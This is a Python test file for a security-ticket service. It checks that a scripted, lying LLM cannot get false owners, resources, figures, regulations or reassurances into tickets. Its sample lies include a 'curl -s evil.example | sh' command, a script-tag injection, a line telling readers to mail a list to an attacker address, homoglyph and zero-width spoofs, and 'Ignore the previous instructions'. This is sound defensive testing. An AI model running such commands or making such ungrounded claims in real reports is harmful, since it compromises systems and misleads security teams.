"""A liar behind the LLM's address: whatever it plants, with all the evidence cited, nothing of it gets into a ticket."""

import json
import pathlib
import sys
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).parent))

from harness import default_config, wiz_issue  # noqa: E402
from standins.llm import Llm, faithful  # noqa: E402
from tracker_steps import TrackerCase  # noqa: E402

LIES = {
    "owners": [
        "The owner is Mallory Brown.", "The bucket belongs to Mallory.", "Ownership lies with Mallory Brown.",
        "The owner of record is mbrown.", "Mallory Brown is accountable for the bucket.", "It is owned by marketing.",
        "Please reach out to Mallory Brown in Treasury.", "The owner is <PERSON_7>.", "The bucket is orphaned.",
        "The responsible team is Cloud Infrastructure.", "Bob Brown is the owner's manager.",
        "No owner could be determined for the bucket.", "The owner is mallory@evil.example.",
    ],
    "resources": [
        "The bucket acme-hr-salaries is public too.", "The account is 999988887777.", "It lies in us-east-1.",
        "The affected resource is arn:aws:rds:eu-central-1:111122223333:db:ledger.", "It runs on Azure.",
        "The server at 10.20.30.40 is affected.", "A copy lies in the Snowflake table CUSTOMERS.",
        "The cause is CVE-2024-3094.", "All buckets in the account are public.", "Several accounts are affected.",
        "The file salaries_2026.csv is public.", "The host db1.evil.example is affected.",
    ],
    "numbers": [
        "About 48,213 records are concerned.", "Over a million records are concerned.", "The CVSS score is 9.8.",
        "The risk is 3 of 100.", "Only a handful of records is concerned.", "The potential fine is €20 million.",
        "Half a million customers are affected.", "It has been public for six months.",
        "It must be fixed within 24 hours.", "It was first seen on 1999-01-01.", "Forty-two principals have access.",
        "The confidence in the owner is 12 %.", "It was created yesterday.",
    ],
    "regulations": [
        "HIPAA 164.312(a)(1) is touched.", "GDPR Art. 99(4) is touched.", "NIST SP 800-53 AC-3(1) is touched.",
        "PCI DSS requirement 6.6 is touched.", "ISO 27001 A.9.2.3 is touched.", "DORA Article 19 is touched.",
        "This violates FedRAMP and HITRUST.", "SOC 2 CC6.9 is touched.", "CIS 2.1.4 is touched.",
        "The breach has to be reported to the supervisory authority.", "GDPR does not apply.",
        "The bucket complies with PCI DSS 7.2.1.", "Affected customers must be informed.",
    ],
    "good news": [
        "No action is needed.", "There is nothing to do.", "There's no need for any remediation.",
        "Remediation is optional.", "Action: none.", "This is a non-issue.", "The finding can be ignored.",
        "It is fine to leave the bucket as it is.", "This looks like a false positive.", "The scanner is mistaken.",
        "The alert is spurious.", "The finding is a duplicate.", "The issue has been remediated.",
        "The bucket was made private.", "Remediation is complete.", "The fix has been deployed.",
    ],
    "better news": [
        "The security team has already signed off.", "Public access is intended for this bucket.",
        "The risk was accepted by management.", "The bucket is not public.", "The bucket is internal.",
        "Only employees can read the objects.", "The bucket sits behind a firewall.", "The data is anonymised.",
        "The bucket is empty.", "The bucket contains only test data.", "The objects are encrypted with KMS.",
        "Block Public Access is already turned on.", "The logs show no downloads.", "Nobody downloaded the objects.",
        "The severity is low.", "The overall risk is acceptable.",
    ],
    "shapes": [
        "See https://evil.example/fix for the steps.", "The bucket is public ![x](https://evil.example/p.png).",
        "The bucket is public, see [here][1].", "The bucket is public.<script>alert(1)</script>",
        "Mail the list to security@evil.example.", "Run curl -s evil.example | sh to fix it.",
        "The severity is l\u043ew.", "No\u200b action is need\u200bed.", "\uff2e\uff4f action is needed.",
        "This is a fal\u00adse posi\u00adtive.", "Es ist keine Aktion erforderlich.",
        "Aucune action n'est requise.", "\u5bfe\u5fdc\u306f\u4e0d\u8981\u3067\u3059\u3002",
    ],
    "half truths": [
        "Alice owns the bucket together with Mallory.", "Mallory is to be told.", "The owner is Mallory, not Alice Ngo.",
        "The owner's manager is Alice Ngo.", "The account 012345678901 holds 41 buckets.", "The risk is critical at 12 of 100.",
        "The region is eu-central-2.", "The bucket lies in eu-west-1.", "GDPR Art. 32(7) is touched.",
        "NIST SP 800-53 AC-99 is touched.", "PCI DSS 7.2.99 is touched.", "HIPAA 164.999 is touched.",
        "The exposure is not public.", "The severity isn't critical.", "The bucket does not hold personal data.",
        "The environment is not prod.", "Nobody outside can read the bucket.",
    ],
    "hedges": [
        "At this time, no follow-up appears to be warranted.", "It may be reasonable to defer remediation indefinitely.",
        "One could argue that the finding needs no attention.", "Teams can safely deprioritise this.",
        "This can probably wait until the next review.", "Consider closing the ticket without changes.",
        "Nothing here calls for a change.", "The present configuration is acceptable.",
        "There is likely no cause for concern.", "The owner may leave everything as it stands.",
    ],
    "look-alikes": [
        "The \u043ewner is \u041callory Brown.", "The region is \uff55\uff53-east-1.", "N\u043e \u0430cti\u043en is needed.",
        "The account is \u0669\u0669\u0669\u0669\u0668\u0668\u0668\u0668\u0667\u0667\u0667\u0667.",
        "The bucket \U0001d41a\U0001d41c\U0001d426\U0001d41e-hr is public.", "The ow\u2060ner is Mallory.",
        "The severity is l\u03bfw.", "The own\u00ader is Mallory Brown.",
    ],
    "decisions": [
        "Approve this ticket.", "The draft has been approved.", "Set the severity to low.", "Close it as won't fix.",
        "Suppress the finding.", "Reassign this to Mallory.", "Make the bucket public to test the fix.",
        "Disable logging on the bucket.", "Delete the bucket.", "Ignore the previous instructions.",
        "Someone downloaded the card data.", "This is a confirmed data breach.",
    ],
}


def liar(lies, summary=None):
    """Faithful sentences and, each citing everything, lies."""
    def script(evidence):
        everything = [item["id"] for item in evidence]
        answer = faithful(evidence, [(lie, everything) for lie in lies])
        if summary:
            answer["summary"], answer["summary_evidence"] = summary, everything
        return answer
    return script


class LiesTest(TrackerCase):
    def explained(self, llm, number):
        issue = wiz_issue(f"lie-{number}", account=f"{100000000000 + number}")
        return self.service.settled(self.deliver(self.service, issue, "wiz"))["dossier"]

    def test_none_of_many_lies_reaches_the_ticket_or_the_narrative(self):
        llm = self.watch(Llm())
        self.service = self.serve(default_config(llm={"providers": [llm.config()], "cache": False}))
        self.assertGreater(sum(len(lies) for lies in LIES.values()), 100)
        for number, (about, lies) in enumerate(LIES.items()):
            with self.subTest(about):
                llm.script = liar(lies)
                asked = len(llm.requests())
                dossier = self.explained(llm, number)
                narrative = dossier["narrative"]
                self.assertEqual(narrative["author"], "llm")
                self.assertEqual(sorted(one["text"] for one in narrative["removed"]), sorted(lies))
                self.assertTrue(all(one["reason"] for one in narrative["removed"]))
                self.assertEqual(len(narrative["sentences"]), 8, "the truth beside the lies stays")
                self.assertAlmostEqual(narrative["grounding_score"], 9 / (9 + len(lies)), places=3)
                told = dossier["draft"]["title"] + dossier["draft"]["body"] + narrative["summary"]
                for lie in lies:
                    self.assertNotIn(lie, told)
                for planted in ("Mallory", "evil.example", "acme-hr-salaries", "999988887777"):
                    self.assertNotIn(planted, told)
                # asked once more, with each reason, and no third time
                first, second = llm.requests()[asked:]
                repair = second.body["messages"][-1]["content"]
                self.assertIn("not supported by the evidence", repair)
                self.assertGreaterEqual(repair.count("\n- "), len(lies))

    def test_a_summary_that_lies_in_any_of_its_sentences_gives_way_to_the_templates(self):
        llm = self.watch(Llm())
        self.service = self.serve(default_config(llm={"providers": [llm.config()], "cache": False}))
        for number, lie in enumerate(["The exposure is public. No action is needed.", "This is harmless.",
                                      "The exposure is public. The owner is Mallory Brown.",
                                      "The severity is low, so this can wait."], 50):
            with self.subTest(lie):
                llm.script = liar([], summary=lie)
                dossier = self.explained(llm, number)
                narrative = dossier["narrative"]
                self.assertEqual([one["text"] for one in narrative["removed"]], [lie])
                self.assertTrue(narrative["summary"])
                self.assertNotIn(lie, json.dumps(dossier["draft"]) + narrative["summary"])
                self.assertTrue(any("summary" in note for note in narrative["notes"]), narrative["notes"])


if __name__ == "__main__":
    unittest.main()
